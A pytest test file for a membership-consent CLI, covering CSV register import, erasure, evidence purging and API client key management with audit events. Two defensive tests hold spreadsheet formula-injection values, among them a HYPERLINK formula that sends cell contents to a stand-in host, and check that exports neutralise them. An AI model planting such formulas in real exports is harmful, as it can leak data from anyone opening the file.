"""`tillit members import | erase | purge-erased` and `tillit clients list | disable | enable |
rotate`: what each changes, what each refuses, and the audit event each leaves."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import uuid
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import text
from sqlalchemy.ext.asyncio import AsyncEngine

from gateway.access.auth import authenticate_key
from gateway.errors import Unauthenticated
from gateway.store.db import raw_of
from tests.conftest import Api, add_client, add_member, row_counts, scalar, tillit
from tests.helpers import access_events, enrich, grant

SHA = hashlib.sha256(b"Ja, jeg vil ha personlige tilbud.").hexdigest()
HEADER = [
    "first_name",
    "last_name",
    "email",
    "phone",
    "postal_code",
    "country",
    "tier",
    "points",
    "member_since",
    "personalized_offers.method",
    "personalized_offers.notice_version",
    "personalized_offers.granted_at",
    "personalized_offers.evidence_sha256",
]


def register_row(n: int, **overrides: str) -> dict[str, str]:
    row = {
        "first_name": "Ola",
        "last_name": f"Nordmann{n}",
        "email": f"ola{n}@example.no",
        "phone": "+4791234567",
        "postal_code": "0150",
        "country": "NO",
        "tier": "SILVER",
        "points": "120",
        "member_since": "2019-05-17",
        "personalized_offers.method": "EXPLICIT",
        "personalized_offers.notice_version": "2026-01",
        "personalized_offers.granted_at": "2026-02-01T10:00:00+01:00",
        "personalized_offers.evidence_sha256": SHA,
    }
    row.update(overrides)
    return row


def write_register(path: Path, rows: list[dict[str, str]], header: list[str] = HEADER) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=header)
        writer.writeheader()
        writer.writerows(rows)
    return path


def read_rejects(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


async def test_members_import_moves_a_register_in_and_is_idempotent(
    db: AsyncEngine, cli_env: object, tmp_path: Path
) -> None:
    no_consent = {k: "" for k in HEADER if k.startswith("personalized_offers.")}
    register = write_register(
        tmp_path / "register.csv",
        [register_row(1), register_row(2, **no_consent), register_row(3)],
    )

    first = await tillit("members", "import", str(register))
    counts = await row_counts(db)
    second = await tillit("members", "import", str(register))

    assert first.exit_code == 0, first.output
    assert "imported: 3 members, 2 consents" in first.output
    assert "already members (unchanged): 3" in second.output
    assert await row_counts(db) == {**counts, "access_events": counts["access_events"]}
    async with db.connect() as connection:
        member = (
            await connection.execute(
                text(
                    "SELECT id, tier, points, member_since FROM members "
                    "WHERE email = 'ola1@example.no'"
                )
            )
        ).one()
        consent = (
            await connection.execute(
                text(
                    "SELECT method, evidence_sha256, occurred_at, actor_kind, channel "
                    "FROM consent_events WHERE member_id = :m"
                ),
                {"m": member.id},
            )
        ).one()
    assert (member.tier, member.points, member.member_since) == (
        "SILVER",
        120,
        dt.date(2019, 5, 17),
    )
    assert consent.method == "EXPLICIT"
    assert consent.evidence_sha256 == SHA
    assert consent.occurred_at == dt.datetime(2026, 2, 1, 9, tzinfo=dt.UTC)
    assert consent.actor_kind == "SYSTEM"
    assert consent.channel == "import:register.csv"
    imported = [e for e in await access_events(db) if e["operation"] == "membersImport"]
    assert len(imported) == 3
    assert {e["outcome"] for e in imported} == {"WRITTEN"}


@pytest.mark.parametrize(
    ("overrides", "code"),
    [
        ({"personalized_offers.evidence_sha256": ""}, "EVIDENCE_MISSING"),
        ({"personalized_offers.evidence_sha256": "abc"}, "BAD_ROW"),
        ({"personalized_offers.method": "CONDITIONAL"}, "CONSENT_METHOD_INSUFFICIENT"),
        ({"personalized_offers.notice_version": "2019-01"}, "NOTICE_OUTDATED"),
        ({"personalized_offers.granted_at": "2026-02-01"}, "BAD_ROW"),
        ({"personalized_offers.granted_at": "2999-01-01T00:00:00+00:00"}, "BAD_ROW"),
        ({"email": "not-an-email"}, "BAD_ROW"),
        ({"phone": "12345"}, "BAD_ROW"),
        ({"postal_code": "ABCDE"}, "BAD_ROW"),
        ({"tier": "DIAMOND"}, "BAD_ROW"),
        ({"points": "-1"}, "BAD_ROW"),
        ({"first_name": ""}, "BAD_ROW"),
    ],
)
async def test_members_import_rejects_rows_with_line_code_and_reason(
    db: AsyncEngine, cli_env: object, tmp_path: Path, overrides: dict[str, str], code: str
) -> None:
    register = write_register(
        tmp_path / "register.csv", [register_row(1), register_row(2, **overrides)]
    )

    result = await tillit("members", "import", str(register))

    assert result.exit_code == 0, result.output
    assert "imported: 1 members" in result.output
    rejects = read_rejects(tmp_path / "register.rejects.csv")
    assert [(r["line"], r["code"]) for r in rejects] == [("3", code)]
    assert rejects[0]["reason"]
    assert await scalar(db, "SELECT count(*) FROM members") == 1


async def test_members_import_rejects_a_second_row_with_the_same_email(
    db: AsyncEngine, cli_env: object, tmp_path: Path
) -> None:
    register = write_register(
        tmp_path / "register.csv", [register_row(1), register_row(1, first_name="Kari")]
    )

    result = await tillit("members", "import", str(register))

    assert "imported: 1 members" in result.output
    rejects = read_rejects(tmp_path / "register.rejects.csv")
    assert [(r["line"], r["code"]) for r in rejects] == [("3", "DUPLICATE")]


@pytest.mark.parametrize(
    ("header", "message"),
    [
        (["first_name", "email"], "missing column(s): last_name"),
        ([*HEADER, "shoe_size"], "unknown column 'shoe_size'"),
        ([*HEADER[:-1]], "consent columns of personalized_offers incomplete"),
        (["first_name", "last_name", "email", "data_quality.method"], "not a consent purpose"),
    ],
)
async def test_members_import_refuses_a_file_it_cannot_read_before_writing(
    db: AsyncEngine, cli_env: object, tmp_path: Path, header: list[str], message: str
) -> None:
    register = write_register(
        tmp_path / "register.csv",
        [{k: v for k, v in register_row(1).items() if k in header}],
        header,
    )

    result = await tillit("members", "import", str(register))

    assert result.exit_code == 1
    assert message in result.output
    assert await scalar(db, "SELECT count(*) FROM members") == 0


# What a spreadsheet runs as a formula when a cell starts with it (the reject file is opened in one
# to fix the rows).
FORMULAS = {
    "first_name": '=HYPERLINK("https://x.example/?"&A1,"fix")',
    "last_name": "@SUM(A1)",
    "phone": "+4712",
    "points": "-1",
    "tier": "\tGOLD",
    "member_since": "\r2019-05-17",
}


async def test_members_import_reject_file_defuses_formula_cells(
    db: AsyncEngine, cli_env: object, tmp_path: Path
) -> None:
    register = write_register(tmp_path / "register.csv", [register_row(1, **FORMULAS)])

    result = await tillit("members", "import", str(register))

    assert result.exit_code == 0, result.output
    [rejected] = read_rejects(tmp_path / "register.rejects.csv")
    assert rejected["code"] == "BAD_ROW"
    assert {k: rejected[k] for k in FORMULAS} == {k: "'" + v for k, v in FORMULAS.items()}
    assert rejected["email"] == "ola1@example.no"


@pytest.mark.parametrize("separator", ["\u2028", "\u2029"])
@pytest.mark.parametrize(
    ("column", "value"),
    [
        ("first_name", "Ola{}Kari"),
        ("last_name", "Nordmann{}"),
        ("street", "{}Storgata 1"),
        ("city", "Os{}lo"),
        ("terms_version", "2024{}01"),
        ("external_subject", "auth0|42{}"),
    ],
)
async def test_members_import_refuses_line_and_paragraph_separators_as_the_api_does(
    db: AsyncEngine, cli_env: object, tmp_path: Path, separator: str, column: str, value: str
) -> None:
    # The API refuses these characters in any text it is sent; the import takes the same fields.
    header = [*HEADER, "street", "city", "terms_version", "external_subject"]
    register = write_register(
        tmp_path / "register.csv",
        [register_row(1), register_row(2, **{column: value.format(separator)})],
        header,
    )

    result = await tillit("members", "import", str(register))

    assert result.exit_code == 0, result.output
    assert "imported: 1 members" in result.output
    rejects = read_rejects(tmp_path / "register.rejects.csv")
    assert [(r["line"], r["code"]) for r in rejects] == [("3", "BAD_ROW")]
    assert separator not in rejects[0]["reason"]
    assert await scalar(db, "SELECT count(*) FROM members") == 1


async def test_members_import_names_the_line_of_an_oversized_field(
    db: AsyncEngine, cli_env: object, tmp_path: Path
) -> None:
    # Beyond the csv module's field limit (131,072 characters) the file cannot be read at all.
    rows = [register_row(1), register_row(2, street="x" * 131_073), register_row(3)]
    register = write_register(tmp_path / "register.csv", rows, [*HEADER, "street"])

    result = await tillit("members", "import", str(register))

    assert result.exit_code == 1
    assert "line 3: unreadable CSV: field larger than field limit" in " ".join(
        result.output.split()
    )
    assert await scalar(db, "SELECT count(*) FROM members") == 0


async def test_members_erase_forgets_a_member_for_the_dpo(db: AsyncEngine, cli_env: object) -> None:
    member_id = await add_member(db)
    grant_id = await grant(db, member_id, "personalized_offers")
    await enrich(db, member_id, grant_id)

    refused = await tillit("members", "erase", "not-a-uuid", "--yes")
    unknown = await tillit("members", "erase", str(uuid.uuid4()), "--yes")
    erased = await tillit("members", "erase", str(member_id), "--yes")

    assert refused.exit_code == 1
    assert "UUID" in refused.output
    assert unknown.exit_code == 1
    assert "No member" in unknown.output
    assert erased.exit_code == 0, erased.output
    assert "erasure receipt" in erased.output
    counts = await row_counts(db)
    assert counts["members"] == 0
    assert counts["enrichment_records"] == 0
    assert counts["consent_events"] == 2
    assert counts["erasures"] == 1
    [event] = [e for e in await access_events(db) if e["operation"] == "membersErase"]
    assert event["member_id"] == member_id
    assert event["actor_kind"] == "SYSTEM"


async def test_members_purge_erased_keeps_evidence_inside_its_period(
    db: AsyncEngine, cli_env: object
) -> None:
    member_id = await add_member(db)
    await grant(db, member_id, "personalized_offers")
    await tillit("members", "erase", str(member_id), "--yes")

    result = await tillit("members", "purge-erased")

    assert "deleted the evidence of 0 erased members" in result.output
    assert await scalar(db, "SELECT count(*) FROM consent_events") == 2


# -- Clients ---------------------------------------------------------------------------------------


async def admin_events(db: AsyncEngine) -> list[dict[str, Any]]:
    return [e for e in await access_events(db) if e["operation"].startswith("client")]


async def is_accepted(db: AsyncEngine, key: str) -> bool:
    async with db.connect() as connection:
        try:
            await authenticate_key(await raw_of(connection), key)
        except Unauthenticated:
            return False
        return True


async def test_clients_list_shows_every_client_and_no_key(db: AsyncEngine, cli_env: object) -> None:
    shop = await add_client(db, name="web-shop")

    result = await tillit("clients", "list", "--format", "csv")

    rows = list(csv.DictReader(result.output.splitlines()))
    assert [(r["name"], r["role"], r["state"]) for r in rows] == [("web-shop", "app", "active")]
    assert shop.key not in result.output


async def test_clients_list_as_csv_defuses_formula_cells(db: AsyncEngine, cli_env: object) -> None:
    # Names are stripped when a client is created, so none can start with a space or a tab.
    names = ['=HYPERLINK("https://x.example")', "+1", "-1", "@SUM(A1)", "\uff1d1+1", "web-shop"]
    for name in names:
        await add_client(db, name=name)

    result = await tillit("clients", "list", "--format", "csv")

    assert result.exit_code == 0, result.output
    listed = {r["name"] for r in csv.DictReader(io.StringIO(result.output))}
    assert listed == {"'" + n for n in names[:-1]} | {"web-shop"}


async def test_clients_disable_and_enable_are_audited_and_refuse_the_key(
    db: AsyncEngine, cli_env: object
) -> None:
    shop = await add_client(db, name="web-shop")

    disabled = await tillit("clients", "disable", "web-shop")
    assert disabled.exit_code == 0, disabled.output
    assert not await is_accepted(db, shop.key)
    again = await tillit("clients", "disable", "web-shop")
    enabled = await tillit("clients", "enable", "web-shop")
    unknown = await tillit("clients", "disable", "nobody")

    assert "already" in again.output
    assert await is_accepted(db, shop.key)
    assert enabled.exit_code == 0
    assert unknown.exit_code == 1
    assert [(e["operation"], e["outcome"]) for e in await admin_events(db)] == [
        ("clientDisabled", "WRITTEN"),
        ("clientDisabled", "UNCHANGED"),
        ("clientEnabled", "WRITTEN"),
    ]


async def test_a_disabled_client_is_refused_over_http(
    db: AsyncEngine, cli_env: object, api: Api
) -> None:
    shop = await add_client(db, name="web-shop")
    await tillit("clients", "disable", "web-shop")

    response = await api.graphql("{ purposes { key } }", token=shop.key)

    assert response.status_code == 401


async def test_clients_rotate_prints_a_new_key_and_keeps_the_old_for_the_overlap(
    db: AsyncEngine, cli_env: object
) -> None:
    shop = await add_client(db, name="web-shop")

    result = await tillit("clients", "rotate", "web-shop", "--overlap", "2h")

    assert result.exit_code == 0, result.output
    [new_key] = [w for w in result.output.split() if w.startswith("tk_")]
    assert await is_accepted(db, new_key)
    assert await is_accepted(db, shop.key)
    # When the overlap has passed, only the new key works.
    async with db.begin() as connection:
        await connection.execute(
            text("UPDATE clients SET previous_key_expires_at = now() - interval '1 second'")
        )
    assert not await is_accepted(db, shop.key)
    assert await is_accepted(db, new_key)
    [event] = await admin_events(db)
    assert event["operation"] == "clientKeyRotated"
    assert new_key not in str(event)
    assert shop.key not in str(event)


async def test_a_second_rotation_ends_the_first_keys_overlap(
    db: AsyncEngine, cli_env: object
) -> None:
    shop = await add_client(db, name="web-shop")
    first = await tillit("clients", "rotate", "web-shop")
    [second_key] = [w for w in first.output.split() if w.startswith("tk_")]

    await tillit("clients", "rotate", "web-shop", "--overlap", "0h")

    assert not await is_accepted(db, shop.key)
    assert not await is_accepted(db, second_key)


async def test_clients_create_is_audited(db: AsyncEngine, cli_env: object) -> None:
    result = await tillit(
        "clients",
        "create",
        "--name",
        "web-shop",
        "--purpose",
        "membership_service",
        "--capability",
        "enroll",
    )

    assert result.exit_code == 0, result.output
    [event] = await admin_events(db)
    assert event["operation"] == "clientCreated"
    assert event["details"]["capabilities"] == ["enroll"]


async def test_members_import_streams_several_batches_in_order(
    db: AsyncEngine, cli_env: object, tmp_path: Path
) -> None:
    rows = [
        register_row(n, phone="not a phone") if n % 500 == 7 else register_row(n)
        for n in range(2_600)
    ]
    register = write_register(tmp_path / "big.csv", rows)

    first = await tillit("members", "import", str(register))
    second = await tillit("members", "import", str(register))

    assert first.exit_code == 0, first.output
    assert "rows: 2600" in first.output
    assert "imported: 2594 members, 2594 consents" in first.output
    rejects = read_rejects(tmp_path / "big.rejects.csv")
    # Line 1 is the header: member n is on line n + 2.
    assert [int(r["line"]) for r in rejects] == [n + 2 for n in range(2_600) if n % 500 == 7]
    assert "already members (unchanged): 2594" in second.output
    assert await scalar(db, "SELECT count(*) FROM members") == 2594
    assert await scalar(db, "SELECT count(*) FROM consent_events") == 2594
